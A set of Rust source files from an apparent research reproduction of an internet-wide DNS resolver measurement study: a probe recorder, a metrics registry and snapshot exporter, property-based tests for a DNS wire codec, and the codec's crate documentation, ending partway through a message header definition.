    let mut g = STATE.lock().unwrap_or_else(|e| e.into_inner());
    let Some(s) = g.as_mut() else { return };
    if ip != 0 && !sample_hit(s, ip) {
        return;
    }
    push(
        s,
        ProbeRecord {
            seq: 0,
            t_ms,
            kind,
            campaign,
            ip,
            asn,
            attempt,
            value,
            reason: if kind == RecordKind::Drop { reason } else { "" },
        },
    );
}

/// Records a probe send to `ip` (context supplies campaign/attempt).
#[inline]
pub fn attempt(ip: u32, asn: u32, t_ms: u64) {
    if enabled() {
        record(RecordKind::Attempt, ip, asn, 0, "", t_ms);
    }
}

/// Records a retry engine backoff decision: retransmission `round`
/// (0-based) will wait `wait_ms`. Campaign-wide (`ip = 0`).
#[inline]
pub fn backoff(round: u32, wait_ms: u64, t_ms: u64) {
    if enabled() {
        let _ = round; // the context's attempt number already names the round
        record(RecordKind::Backoff, 0, 0, wait_ms, "", t_ms);
    }
}

/// Records a dropped datagram. Called by the network layer; the probe
/// target is inferred from the DNS direction (queries travel towards
/// port 53, so replies carry the resolver as their source).
#[inline]
pub fn drop_fault(src_ip: u32, dst_ip: u32, dst_port: u16, reason: &'static str, t_ms: u64) {
    if enabled() {
        let target = if dst_port == 53 { dst_ip } else { src_ip };
        record(RecordKind::Drop, target, 0, 0, reason, t_ms);
    }
}

/// Records a response from `ip` with DNS `rcode`.
#[inline]
pub fn response(ip: u32, rcode: u8, t_ms: u64) {
    if enabled() {
        record(RecordKind::Response, ip, 0, rcode as u64, "", t_ms);
    }
}

/// Records that every attempt against `ip` was exhausted unanswered.
#[inline]
pub fn gave_up(ip: u32, asn: u32, attempts: u32, t_ms: u64) {
    if enabled() {
        record(RecordKind::GaveUp, ip, asn, attempts as u64, "", t_ms);
    }
}

/// Takes every buffered record, oldest first (sequence order). The
/// recorder stays enabled and sequence numbers keep counting, so
/// periodic drains concatenate into one gap-free stream.
pub fn drain() -> Vec<ProbeRecord> {
    let mut g = STATE.lock().unwrap_or_else(|e| e.into_inner());
    let Some(s) = g.as_mut() else {
        return Vec::new();
    };
    let head = s.head;
    s.head = 0;
    let mut out = std::mem::take(&mut s.ring);
    out.rotate_left(head);
    out
}

/// Occupancy counters.
pub fn stats() -> RecorderStats {
    let g = STATE.lock().unwrap_or_else(|e| e.into_inner());
    match g.as_ref() {
        Some(s) => RecorderStats {
            buffered: s.ring.len() as u64,
            recorded: s.next_seq,
            overwritten: s.overwritten,
        },
        None => RecorderStats::default(),
    }
}

/// SplitMix64-style mixing (same construction the simulator uses),
/// local so the recorder stays std-only and dependency-free.
fn mix64(a: u64, b: u64, c: u64) -> u64 {
    let mut z = a
        .wrapping_mul(0x9e3779b97f4a7c15)
        .wrapping_add(b.rotate_left(17))
        .wrapping_add(c.wrapping_mul(0xbf58476d1ce4e5b9));
    z ^= z >> 30;
    z = z.wrapping_mul(0xbf58476d1ce4e5b9);
    z ^= z >> 27;
    z = z.wrapping_mul(0x94d049bb133111eb);
    z ^ (z >> 31)
}

#[cfg(test)]
mod tests {
    use super::*;
    use std::sync::{Mutex as StdMutex, OnceLock};

    /// Recorder state is process-global; tests take turns.
    fn lock() -> std::sync::MutexGuard<'static, ()> {
        static LOCK: OnceLock<StdMutex<()>> = OnceLock::new();
        LOCK.get_or_init(|| StdMutex::new(()))
            .lock()
            .unwrap_or_else(|e| e.into_inner())
    }

    #[test]
    fn disabled_recorder_costs_nothing_and_records_nothing() {
        let _g = lock();
        disable();
        assert!(!enabled());
        set_context("churn", 1);
        attempt(1, 2, 3);
        drop_fault(1, 2, 53, "burst", 4);
        assert!(drain().is_empty());
        assert_eq!(stats(), RecorderStats::default());
    }

    #[test]
    fn records_link_context_and_preserve_order() {
        let _g = lock();
        enable(1.0, 7, 1024);
        set_context("churn", 1);
        attempt(0x01020304, 42, 1000);
        drop_fault(0x0a000001, 0x01020304, 53, "burst", 1010);
        set_context("churn", 2);
        backoff(0, 1500, 1500);
        attempt(0x01020304, 42, 2500);
        drop_fault(0x01020304, 0x0a000001, 40_000, "flap", 2600);
        gave_up(0x01020304, 42, 2, 3000);
        clear_context();
        attempt(0x01020304, 42, 9999); // no context → not recorded
        let recs = drain();
        disable();
        assert_eq!(recs.len(), 6);
        assert_eq!(
            recs.iter().map(|r| r.seq).collect::<Vec<_>>(),
            vec![0, 1, 2, 3, 4, 5]
        );
        assert_eq!(recs[0].kind, RecordKind::Attempt);
        assert_eq!(recs[0].attempt, 1);
        assert_eq!(recs[1].reason, "burst");
        assert_eq!(recs[1].ip, 0x01020304, "query drop targets the dst");
        assert_eq!(recs[2].kind, RecordKind::Backoff);
        assert_eq!(recs[2].value, 1500);
        assert_eq!(recs[4].ip, 0x01020304, "reply drop targets the src");
        assert_eq!(recs[4].attempt, 2);
        assert_eq!(recs[5].kind, RecordKind::GaveUp);
    }

    #[test]
    fn sampling_is_all_or_none_per_ip_and_deterministic() {
        let _g = lock();
        enable(0.5, 99, 1 << 16);
        set_context("chaos", 1);
        let mut kept = 0u32;
        for ip in 1..=2000u32 {
            attempt(ip, 0, 10);
            response(ip, 0, 20);
        }
        let recs = drain();
        for r in &recs {
            kept += 1;
            let _ = r;
        }
        // Each sampled ip contributed exactly its attempt+response pair.
        assert!(kept > 0 && kept.is_multiple_of(2), "kept={kept}");
        let frac = (kept / 2) as f64 / 2000.0;
        assert!((frac - 0.5).abs() < 0.1, "sample fraction {frac}");
        // Same seed and rate → same decisions.
        let first: Vec<u32> = recs.iter().map(|r| r.ip).collect();
        for ip in 1..=2000u32 {
            attempt(ip, 0, 10);
            response(ip, 0, 20);
        }
        let again: Vec<u32> = drain().iter().map(|r| r.ip).collect();
        clear_context();
        disable();
        assert_eq!(first, again);
    }

    #[test]
    fn ring_overwrites_oldest_when_full() {
        let _g = lock();
        enable(1.0, 1, 4);
        set_context("churn", 1);
        for i in 0..10u32 {
            attempt(1000 + i, 0, i as u64);
        }
        let s = stats();
        assert_eq!(s.buffered, 4);
        assert_eq!(s.recorded, 10);
        assert_eq!(s.overwritten, 6);
        let recs = drain();
        clear_context();
        disable();
        assert_eq!(
            recs.iter().map(|r| r.seq).collect::<Vec<_>>(),
            vec![6, 7, 8, 9]
        );
    }
}
