//! The metric registry: names (plus optional labels) to handles.
//! Registration takes a lock; the returned handles do not. Keys are
//! kept in `BTreeMap`s so every snapshot renders in sorted order.

use crate::metrics::{Counter, Gauge, Histogram};
use crate::snapshot::{HistogramData, Snapshot};
use std::collections::BTreeMap;
use std::sync::{Mutex, MutexGuard};

/// A set of named metric families. Most code uses the process-wide
/// [`global()`] registry; benches build their own for isolation.
pub struct Registry {
    inner: Mutex<Inner>,
}

struct Inner {
    counters: BTreeMap<String, Counter>,
    gauges: BTreeMap<String, Gauge>,
    histograms: BTreeMap<String, Histogram>,
}

/// `name` alone, or `name{k1=v1,k2=v2}` with labels sorted by key, so
/// the same (name, labels) pair always resolves to the same metric.
fn key(name: &str, labels: &[(&str, &str)]) -> String {
    if labels.is_empty() {
        return name.to_string();
    }
    let mut labels: Vec<_> = labels.to_vec();
    labels.sort_unstable();
    let mut out = String::with_capacity(name.len() + 16);
    out.push_str(name);
    out.push('{');
    for (i, (k, v)) in labels.iter().enumerate() {
        if i > 0 {
            out.push(',');
        }
        out.push_str(k);
        out.push('=');
        out.push_str(v);
    }
    out.push('}');
    out
}

impl Registry {
    /// An empty registry.
    pub const fn new() -> Registry {
        Registry {
            inner: Mutex::new(Inner {
                counters: BTreeMap::new(),
                gauges: BTreeMap::new(),
                histograms: BTreeMap::new(),
            }),
        }
    }

    fn lock(&self) -> MutexGuard<'_, Inner> {
        self.inner.lock().unwrap_or_else(|e| e.into_inner())
    }

    /// The counter registered under `name`, created on first use.
    pub fn counter(&self, name: &str) -> Counter {
        self.counter_with(name, &[])
    }

    /// The counter registered under `name` with `labels`.
    pub fn counter_with(&self, name: &str, labels: &[(&str, &str)]) -> Counter {
        self.lock()
            .counters
            .entry(key(name, labels))
            .or_default()
            .clone()
    }

    /// The gauge registered under `name`, created on first use.
    pub fn gauge(&self, name: &str) -> Gauge {
        self.gauge_with(name, &[])
    }

    /// The gauge registered under `name` with `labels`.
    pub fn gauge_with(&self, name: &str, labels: &[(&str, &str)]) -> Gauge {
        self.lock()
            .gauges
            .entry(key(name, labels))
            .or_default()
            .clone()
    }

    /// The histogram registered under `name`, created with `bounds` on
    /// first use. Later calls return the existing histogram; `bounds`
    /// are then ignored.
    pub fn histogram(&self, name: &str, bounds: &[u64]) -> Histogram {
        self.histogram_with(name, &[], bounds)
    }

    /// The histogram registered under `name` with `labels`.
    pub fn histogram_with(&self, name: &str, labels: &[(&str, &str)], bounds: &[u64]) -> Histogram {
        self.lock()
            .histograms
            .entry(key(name, labels))
            .or_insert_with(|| Histogram::new(bounds))
            .clone()
    }

    /// Drops every registered metric. Existing handles keep working
    /// but are no longer visible to snapshots; used by benches and
    /// tests that need a clean slate.
    pub fn clear(&self) {
        let mut g = self.lock();
        g.counters.clear();
        g.gauges.clear();
        g.histograms.clear();
    }

    /// Captures every metric's current value, sorted by key.
    pub fn snapshot(&self) -> Snapshot {
        let g = self.lock();
        Snapshot {
            counters: g
                .counters
                .iter()
                .map(|(k, c)| (k.clone(), c.get()))
                .collect(),
            gauges: g.gauges.iter().map(|(k, v)| (k.clone(), v.get())).collect(),
            histograms: g
                .histograms
                .iter()
                .map(|(k, h)| {
                    (
                        k.clone(),
                        HistogramData {
                            bounds: h.bounds().to_vec(),
                            counts: h.bucket_counts(),
                            count: h.count(),
                            sum: h.sum(),
                            max: h.max(),
                        },
                    )
                })
                .collect(),
        }
    }
}

impl Default for Registry {
    fn default() -> Registry {
        Registry::new()
    }
}

/// The process-wide registry.
pub fn global() -> &'static Registry {
    static GLOBAL: Registry = Registry::new();
    &GLOBAL
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn same_name_same_cell() {
        let reg = Registry::new();
        reg.counter("hits").add(2);
        reg.counter("hits").inc();
        assert_eq!(reg.counter("hits").get(), 3);
    }

    #[test]
    fn labels_are_order_insensitive() {
        let reg = Registry::new();
        reg.counter_with("rc", &[("code", "0"), ("proto", "udp")])
            .inc();
        reg.counter_with("rc", &[("proto", "udp"), ("code", "0")])
            .inc();
        let snap = reg.snapshot();
        assert_eq!(snap.counter("rc{code=0,proto=udp}"), Some(2));
    }

    #[test]
    fn snapshot_is_sorted_and_typed() {
        let reg = Registry::new();
        reg.counter("b.second").inc();
        reg.counter("a.first").add(7);
        reg.gauge("ratio").set(9.9);
        reg.histogram("lat_ms", &[1, 10]).observe(3);
        let snap = reg.snapshot();
        let names: Vec<_> = snap.counters.iter().map(|(k, _)| k.as_str()).collect();
        assert_eq!(names, ["a.first", "b.second"]);
        assert_eq!(snap.gauges[0], ("ratio".to_string(), 9.9));
        assert_eq!(snap.histograms[0].1.count, 1);
        assert_eq!(snap.histograms[0].1.counts, vec![0, 1, 0]);
    }

    #[test]
    fn clear_detaches_metrics() {
        let reg = Registry::new();
        let live = reg.counter("kept");
        reg.clear();
        live.inc(); // handle still works...
        assert_eq!(reg.snapshot().counters.len(), 0); // ...but is unregistered
        assert_eq!(reg.counter("kept").get(), 0, "fresh cell after clear");
    }
}
