//! Metrics, sim-time-aware spans, and trace/event exporters.
//!
//! This crate sits *below* every other crate in the workspace graph
//! (`netsim` depends on it), so it is std-only: metric handles are
//! plain atomics and both exporters hand-roll their JSON.
//!
//! # Model
//!
//! - **Metrics** ([`Counter`], [`Gauge`], [`Histogram`]) are cheap
//!   clonable handles over atomics, registered by name (plus optional
//!   labels) in a [`Registry`]. The process-wide registry is reachable
//!   through [`global()`] and the free functions [`counter`],
//!   [`gauge`], [`histogram`]. Fetch handles once, increment on the
//!   hot path: an increment is one relaxed atomic op, no formatting,
//!   no locking.
//! - **Spans** ([`span`]) record a named interval in *both* clocks:
//!   simulated milliseconds (passed in explicitly, usually
//!   `world.now().millis()`) and wall time (measured internally).
//!   Spans nest per-thread; a child records its parent's id. On
//!   finish a span feeds `span.<name>.{count,sim_ms,wall_us}`
//!   counters and, if a trace is attached, emits one JSON line.
//! - **Events** ([`event`] and the [`debug`]/[`info`]/[`warn`]/
//!   [`error`] shorthands) are log lines gated by a process-wide
//!   verbosity ([`set_verbosity`]); they render to stderr and, if a
//!   trace is attached, to the trace stream.
//! - **Exporters**: [`attach_trace`] streams spans/events as JSON
//!   lines to any `Write`; [`Registry::snapshot`] captures all metric
//!   values at once, renderable as JSON ([`Snapshot::to_json`]) or a
//!   human-readable table ([`Snapshot::to_table`]).
//!
//! # Determinism
//!
//! Trace lines carry only deterministic fields — sequence numbers,
//! names, sim times, caller-supplied attributes. Wall-clock durations
//! never enter the trace; they are visible only in the metrics
//! snapshot. Two runs of the same seeded workload with a fresh trace
//! attached therefore produce byte-identical trace files.

mod json;
mod metrics;
pub mod recorder;
mod registry;
mod snapshot;
mod trace;

pub use metrics::{Counter, Gauge, Histogram};
pub use registry::{global, Registry};
pub use snapshot::{HistogramData, Snapshot};
pub use trace::{
    attach_trace, detach_trace, enable_profile, enabled, event, profiling_enabled, set_verbosity,
    span, span_quiet, take_profile, trace_enabled, verbosity, Level, Profile, Span, SpanProfile,
    Value,
};

/// A counter handle from the global registry.
pub fn counter(name: &str) -> Counter {
    global().counter(name)
}

/// A labeled counter handle from the global registry.
pub fn counter_with(name: &str, labels: &[(&str, &str)]) -> Counter {
    global().counter_with(name, labels)
}

/// A gauge handle from the global registry.
pub fn gauge(name: &str) -> Gauge {
    global().gauge(name)
}

/// A labeled gauge handle from the global registry.
pub fn gauge_with(name: &str, labels: &[(&str, &str)]) -> Gauge {
    global().gauge_with(name, labels)
}

/// A histogram handle from the global registry. `bounds` are the
/// inclusive upper edges of the buckets; values above the last bound
/// land in an implicit overflow bucket.
pub fn histogram(name: &str, bounds: &[u64]) -> Histogram {
    global().histogram(name, bounds)
}

/// Snapshot of every metric in the global registry.
pub fn snapshot() -> Snapshot {
    global().snapshot()
}

/// Emit a debug-level event (see [`event`]).
pub fn debug(name: &str, msg: &str, attrs: &[(&str, Value)], sim_ms: Option<u64>) {
    event(Level::Debug, name, msg, attrs, sim_ms);
}

/// Emit an info-level event (see [`event`]).
pub fn info(name: &str, msg: &str, attrs: &[(&str, Value)], sim_ms: Option<u64>) {
    event(Level::Info, name, msg, attrs, sim_ms);
}

/// Emit a warn-level event (see [`event`]).
pub fn warn(name: &str, msg: &str, attrs: &[(&str, Value)], sim_ms: Option<u64>) {
    event(Level::Warn, name, msg, attrs, sim_ms);
}

/// Emit an error-level event (see [`event`]).
pub fn error(name: &str, msg: &str, attrs: &[(&str, Value)], sim_ms: Option<u64>) {
    event(Level::Error, name, msg, attrs, sim_ms);
}
