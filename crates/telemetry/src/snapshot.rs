//! One-shot metrics snapshot, renderable as JSON or a text table.

use crate::json;
use std::fmt::Write;

/// A histogram's state at snapshot time.
#[derive(Clone, Debug, PartialEq, Eq)]
pub struct HistogramData {
    /// Inclusive upper bucket bounds.
    pub bounds: Vec<u64>,
    /// Per-bucket counts: one per bound, then the overflow bucket.
    pub counts: Vec<u64>,
    /// Total samples.
    pub count: u64,
    /// Sum of all samples.
    pub sum: u64,
    /// Largest sample recorded (exact, not bucketed).
    pub max: u64,
}

impl HistogramData {
    /// Bucket-interpolated quantile **estimate** for `q` in `[0, 1]`.
    ///
    /// The true sample values are gone after bucketing, so this
    /// locates the bucket holding the nearest-rank sample and
    /// interpolates linearly inside it; the overflow bucket uses the
    /// exact [`max`](HistogramData::max) as its upper edge. Error is
    /// bounded by the width of the bucket the quantile falls in.
    pub fn quantile_estimate(&self, q: f64) -> f64 {
        if self.count == 0 {
            return 0.0;
        }
        let rank = (q.clamp(0.0, 1.0) * self.count as f64).ceil().max(1.0) as u64;
        let mut cum = 0u64;
        for (i, &n) in self.counts.iter().enumerate() {
            let before = cum;
            cum += n;
            if rank <= cum && n > 0 {
                let lo = if i == 0 { 0 } else { self.bounds[i - 1] };
                let hi = if i < self.bounds.len() {
                    self.bounds[i]
                } else {
                    self.max.max(lo)
                };
                let frac = (rank - before) as f64 / n as f64;
                return lo as f64 + (hi - lo) as f64 * frac;
            }
        }
        self.max as f64
    }
}

/// Every metric's value at a point in time, sorted by key.
#[derive(Clone, Debug, Default)]
pub struct Snapshot {
    /// Counter values by key.
    pub counters: Vec<(String, u64)>,
    /// Gauge values by key.
    pub gauges: Vec<(String, f64)>,
    /// Histogram states by key.
    pub histograms: Vec<(String, HistogramData)>,
}

impl Snapshot {
    /// The counter registered under exactly `key`, if present.
    pub fn counter(&self, key: &str) -> Option<u64> {
        self.counters
            .iter()
            .find(|(k, _)| k == key)
            .map(|&(_, v)| v)
    }

    /// The gauge registered under exactly `key`, if present.
    pub fn gauge(&self, key: &str) -> Option<f64> {
        self.gauges.iter().find(|(k, _)| k == key).map(|&(_, v)| v)
    }

    /// True if any counter whose key starts with `prefix` is nonzero.
    pub fn has_nonzero_counter(&self, prefix: &str) -> bool {
        self.counters
            .iter()
            .any(|(k, v)| k.starts_with(prefix) && *v > 0)
    }

    /// Renders the snapshot as a JSON document:
    ///
    /// ```json
    /// {
    ///   "telemetry": "goingwild.metrics.v1",
    ///   "counters": {"netsim.udp_sent": 1234},
    ///   "gauges": {"scanstore.compression_ratio": 9.9},
    ///   "histograms": {
    ///     "scanner.token_wait_ms": {
    ///       "count": 3, "sum": 42,
    ///       "buckets": [[1, 0], [10, 2]], "overflow": 1
    ///     }
    ///   }
    /// }
    /// ```
    pub fn to_json(&self) -> String {
        let mut out = String::with_capacity(1024);
        out.push_str("{\n  \"telemetry\": \"goingwild.metrics.v1\",\n  \"counters\": {");
        for (i, (k, v)) in self.counters.iter().enumerate() {
            out.push_str(if i == 0 { "\n" } else { ",\n" });
            out.push_str("    ");
            json::push_str(&mut out, k);
            let _ = write!(out, ": {v}");
        }
        out.push_str("\n  },\n  \"gauges\": {");
        for (i, (k, v)) in self.gauges.iter().enumerate() {
            out.push_str(if i == 0 { "\n" } else { ",\n" });
            out.push_str("    ");
            json::push_str(&mut out, k);
            out.push_str(": ");
            json::push_f64(&mut out, *v);
        }
        out.push_str("\n  },\n  \"histograms\": {");
        for (i, (k, h)) in self.histograms.iter().enumerate() {
            out.push_str(if i == 0 { "\n" } else { ",\n" });
            out.push_str("    ");
            json::push_str(&mut out, k);
            let _ = write!(
                out,
                ": {{\"count\": {}, \"sum\": {}, \"buckets\": [",
                h.count, h.sum
            );
            for (j, (b, n)) in h.bounds.iter().zip(&h.counts).enumerate() {
                if j > 0 {
                    out.push_str(", ");
                }
                let _ = write!(out, "[{b}, {n}]");
            }
            let overflow = h.counts.last().copied().unwrap_or(0);
            let _ = write!(out, "], \"overflow\": {overflow}");
            // Quantiles are bucket-interpolated estimates; max is exact.
            for (label, q) in [("p50", 0.50), ("p90", 0.90), ("p99", 0.99)] {
                let _ = write!(out, ", \"{label}\": ");
                json::push_f64(&mut out, h.quantile_estimate(q));
            }
            let _ = write!(out, ", \"max\": {}}}", h.max);
        }
        out.push_str("\n  }\n}\n");
        out
    }

    /// Renders the snapshot as an aligned, human-readable table.
    pub fn to_table(&self) -> String {
        let width = self
            .counters
            .iter()
            .map(|(k, _)| k.len())
            .chain(self.gauges.iter().map(|(k, _)| k.len()))
            .chain(self.histograms.iter().map(|(k, _)| k.len()))
            .max()
            .unwrap_or(0);
        let mut out = String::new();
        if !self.counters.is_empty() {
            out.push_str("counters\n");
            for (k, v) in &self.counters {
                let _ = writeln!(out, "  {k:width$}  {v}");
            }
        }
        if !self.gauges.is_empty() {
            out.push_str("gauges\n");
            for (k, v) in &self.gauges {
                let _ = writeln!(out, "  {k:width$}  {v}");
            }
        }
        if !self.histograms.is_empty() {
            out.push_str("histograms\n");
            for (k, h) in &self.histograms {
                let mean = if h.count > 0 {
                    h.sum as f64 / h.count as f64
                } else {
                    0.0
                };
                let _ = writeln!(
                    out,
                    "  {k:width$}  count={} mean={mean:.1} p50~{:.1} p90~{:.1} p99~{:.1} max={}",
                    h.count,
                    h.quantile_estimate(0.50),
                    h.quantile_estimate(0.90),
                    h.quantile_estimate(0.99),
                    h.max
                );
            }
        }
        out
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::Registry;

    fn sample() -> Snapshot {
        let reg = Registry::new();
        reg.counter("scanner.probes_sent").add(42);
        reg.counter_with("scanner.responses", &[("rcode", "0")])
            .add(40);
        reg.gauge("scanstore.compression_ratio").set(9.9);
        let h = reg.histogram("scanner.token_wait_ms", &[1, 10]);
        h.observe(5);
        h.observe(500);
        reg.snapshot()
    }

    #[test]
    fn json_is_well_formed_and_complete() {
        let js = sample().to_json();
        assert!(js.contains("\"telemetry\": \"goingwild.metrics.v1\""));
        assert!(js.contains("\"scanner.probes_sent\": 42"));
        assert!(js.contains("\"scanner.responses{rcode=0}\": 40"));
        assert!(js.contains("\"scanstore.compression_ratio\": 9.9"));
        assert!(js.contains("\"buckets\": [[1, 0], [10, 1]], \"overflow\": 1"));
        // Derived quantile estimates and the exact max follow overflow.
        assert!(js.contains("\"p50\": "));
        assert!(js.contains("\"max\": 500"));
        // Balanced braces/brackets as a cheap well-formedness check.
        let open = js.matches(['{', '[']).count();
        let close = js.matches(['}', ']']).count();
        assert_eq!(open, close);
    }

    #[test]
    fn table_lists_every_metric() {
        let t = sample().to_table();
        assert!(t.contains("scanner.probes_sent"));
        assert!(t.contains("scanstore.compression_ratio"));
        assert!(t.contains("count=2"));
    }

    #[test]
    fn quantile_estimates_interpolate_within_buckets() {
        let h = HistogramData {
            bounds: vec![10, 100],
            counts: vec![8, 1, 1],
            count: 10,
            sum: 700,
            max: 400,
        };
        // p50: rank 5 of 8 in [0,10] → 10 * 5/8.
        assert!((h.quantile_estimate(0.50) - 6.25).abs() < 1e-9);
        // p90: rank 9, the single sample in (10,100].
        assert!((h.quantile_estimate(0.90) - 100.0).abs() < 1e-9);
        // p99: rank 10 lands in overflow; upper edge is the exact max.
        assert!((h.quantile_estimate(0.99) - 400.0).abs() < 1e-9);
        let empty = HistogramData {
            bounds: vec![1],
            counts: vec![0, 0],
            count: 0,
            sum: 0,
            max: 0,
        };
        assert_eq!(empty.quantile_estimate(0.5), 0.0);
    }

    #[test]
    fn lookup_helpers() {
        let snap = sample();
        assert_eq!(snap.counter("scanner.probes_sent"), Some(42));
        assert_eq!(snap.counter("missing"), None);
        assert_eq!(snap.gauge("scanstore.compression_ratio"), Some(9.9));
        assert!(snap.has_nonzero_counter("scanner."));
        assert!(!snap.has_nonzero_counter("netsim."));
    }
}
