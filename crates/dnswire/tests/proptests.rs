//! Property-based tests for the DNS wire codec.
//!
//! Two invariant families:
//!  1. encode ∘ decode = identity for arbitrary structured messages;
//!  2. the decoder never panics on arbitrary bytes (fuzz-shaped input).

use dnswire::{
    decode_0x20, encode_0x20, Header, Message, Name, Opcode, Question, RData, Rcode, RecordClass,
    RecordType, ResourceRecord,
};
use proptest::prelude::*;
use std::net::{Ipv4Addr, Ipv6Addr};

fn arb_label() -> impl Strategy<Value = Vec<u8>> {
    proptest::collection::vec(
        prop_oneof![
            (b'a'..=b'z').prop_map(|b| b),
            (b'A'..=b'Z').prop_map(|b| b),
            (b'0'..=b'9').prop_map(|b| b),
            Just(b'-'),
        ],
        1..=12,
    )
}

fn arb_name() -> impl Strategy<Value = Name> {
    proptest::collection::vec(arb_label(), 0..=5)
        .prop_filter_map("valid name", |labels| Name::from_labels(labels).ok())
}

fn arb_rdata() -> impl Strategy<Value = RData> {
    prop_oneof![
        any::<[u8; 4]>().prop_map(|o| RData::A(Ipv4Addr::from(o))),
        any::<[u8; 16]>().prop_map(|o| RData::Aaaa(Ipv6Addr::from(o))),
        arb_name().prop_map(RData::Ns),
        arb_name().prop_map(RData::Cname),
        arb_name().prop_map(RData::Ptr),
        (any::<u16>(), arb_name()).prop_map(|(preference, exchange)| RData::Mx {
            preference,
            exchange
        }),
        proptest::collection::vec(proptest::collection::vec(any::<u8>(), 0..40), 0..3)
            .prop_map(RData::Txt),
        (
            arb_name(),
            arb_name(),
            any::<u32>(),
            any::<u32>(),
            any::<u32>(),
            any::<u32>(),
            any::<u32>()
        )
            .prop_map(|(mname, rname, serial, refresh, retry, expire, minimum)| {
                RData::Soa {
                    mname,
                    rname,
                    serial,
                    refresh,
                    retry,
                    expire,
                    minimum,
                }
            }),
        proptest::collection::vec(any::<u8>(), 0..48).prop_map(RData::Opaque),
    ]
}

fn arb_record() -> impl Strategy<Value = ResourceRecord> {
    (arb_name(), arb_rdata(), any::<u32>(), any::<u16>()).prop_map(
        |(name, rdata, ttl, class_raw)| {
            // Type must agree with the rdata shape for a faithful round trip;
            // Opaque uses an unknown type code to avoid structured decoding.
            let rtype = rdata.record_type().unwrap_or(RecordType::Other(9999));
            ResourceRecord {
                name,
                rtype,
                rclass: if rtype == RecordType::Other(9999) {
                    RecordClass::from_u16(class_raw)
                } else {
                    RecordClass::In
                },
                ttl,
                rdata,
            }
        },
    )
}

fn arb_message() -> impl Strategy<Value = Message> {
    (
        any::<u16>(),
        any::<bool>(),
        any::<bool>(),
        any::<bool>(),
        any::<bool>(),
        proptest::sample::select(vec![
            Rcode::NoError,
            Rcode::ServFail,
            Rcode::NxDomain,
            Rcode::Refused,
            Rcode::FormErr,
        ]),
        proptest::collection::vec(arb_name(), 0..2),
        proptest::collection::vec(arb_record(), 0..4),
        proptest::collection::vec(arb_record(), 0..2),
        proptest::collection::vec(arb_record(), 0..2),
    )
        .prop_map(
            |(id, response, aa, rd, ra, rcode, qnames, answers, authorities, additionals)| {
                Message {
                    header: Header {
                        id,
                        response,
                        opcode: Opcode::Query,
                        authoritative: aa,
                        truncated: false,
                        recursion_desired: rd,
                        recursion_available: ra,
                        authentic_data: aa & rd, // arbitrary but varied
                        checking_disabled: ra & aa,
                        rcode,
                    },
                    questions: qnames
                        .into_iter()
                        .map(|qname| Question {
                            qname,
                            qtype: RecordType::A,
                            qclass: RecordClass::In,
                        })
                        .collect(),
                    answers,
                    authorities,
                    additionals,
                }
            },
        )
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(256))]

    #[test]
    fn message_encode_decode_round_trip(msg in arb_message()) {
        let wire = msg.encode();
        let decoded = Message::decode(&wire).expect("self-encoded message must decode");
        prop_assert_eq!(decoded, msg);
    }

    #[test]
    fn decoder_never_panics_on_garbage(bytes in proptest::collection::vec(any::<u8>(), 0..256)) {
        let _ = Message::decode(&bytes);
    }

    #[test]
    fn decoder_never_panics_on_mutated_valid_packets(
        msg in arb_message(),
        idx in any::<prop::sample::Index>(),
        bit in 0u8..8,
    ) {
        let mut wire = msg.encode();
        if !wire.is_empty() {
            let i = idx.index(wire.len());
            wire[i] ^= 1 << bit;
        }
        let _ = Message::decode(&wire);
    }

    #[test]
    fn name_text_round_trip(name in arb_name()) {
        let text = name.to_string();
        if text != "." {
            let reparsed = Name::parse(&text).unwrap();
            prop_assert_eq!(reparsed, name);
        }
    }

    #[test]
    fn zeroxtwenty_round_trip(name in arb_name(), value in any::<u32>(), bits in 1u32..=16) {
        let cap = dnswire::zeroxtwenty::capacity_bits(&name);
        let effective = bits.min(cap);
        let enc = encode_0x20(&name, value, bits);
        let decoded = decode_0x20(&enc, bits);
        let mask = if effective >= 32 { u32::MAX } else { (1u32 << effective) - 1 };
        prop_assert_eq!(decoded, value & mask);
        // 0x20 encoding never changes which name is being queried.
        prop_assert_eq!(enc, name);
    }
}
