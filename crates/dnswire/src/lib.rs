//! # dnswire — DNS wire-format encoding and decoding
//!
//! A self-contained implementation of the subset of the DNS protocol
//! (RFC 1034/1035, plus the CHAOS class of RFC 5395 as used by
//! `version.bind` fingerprinting) required by the *Going Wild* (IMC 2015)
//! reproduction.
//!
//! The crate provides:
//!
//! * [`Name`] — domain names with label semantics, case-insensitive
//!   equality, and support for DNS *0x20 encoding* (randomized label
//!   casing used as an anti-spoofing / side-channel encoding, see
//!   Dagon et al., CCS 2008).
//! * [`Message`] — full message encode/decode with header flags,
//!   question and resource-record sections, and message-compression
//!   pointer *decoding* (we always emit uncompressed names, which is
//!   valid on the wire and keeps the encoder simple and predictable).
//! * [`RData`] — typed record data for A, NS, CNAME, SOA, PTR, MX, TXT
//!   and AAAA records; anything else round-trips as opaque bytes.
//! * [`MessageBuilder`] — an ergonomic builder for queries and responses.
//!
//! The decoder is defensive: it never panics on untrusted input, bounds
//! every read, and rejects compression-pointer loops. This matters
//! because the *Going Wild* measurement consumes responses from millions
//! of arbitrary — and sometimes actively hostile — resolvers.
//!
//! ```
//! use dnswire::{MessageBuilder, Message, Name, RecordType};
//!
//! let query = MessageBuilder::query(0x1234, Name::parse("example.com.").unwrap(), RecordType::A)
//!     .recursion_desired(true)
//!     .build();
//! let wire = query.encode();
//! let decoded = Message::decode(&wire).unwrap();
//! assert_eq!(decoded.header.id, 0x1234);
//! assert_eq!(decoded.questions[0].qtype, RecordType::A);
//! ```

pub mod error;
pub mod message;
pub mod name;
pub mod types;
pub mod zeroxtwenty;

pub use error::{DecodeError, NameError};
pub use message::{Header, Message, MessageBuilder, Question, RData, ResourceRecord};
pub use name::Name;
pub use types::{Opcode, Rcode, RecordClass, RecordType};
pub use zeroxtwenty::{decode_0x20, encode_0x20};
