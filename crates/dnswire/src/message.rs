//! DNS message structure: header, questions, resource records, and the
//! full encode/decode path.

use crate::error::DecodeError;
use crate::name::Name;
use crate::types::{Opcode, Rcode, RecordClass, RecordType};
use serde::{Deserialize, Serialize};
use std::net::{Ipv4Addr, Ipv6Addr};

/// Fixed 12-octet message header (RFC 1035 §4.1.1), with flag bits
/// expanded into booleans.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
pub struct Header {
    /// Transaction ID. The domain-scan campaign stores 16 of the 25
    /// resolver-identifier bits here (Section 3.3 of the paper).
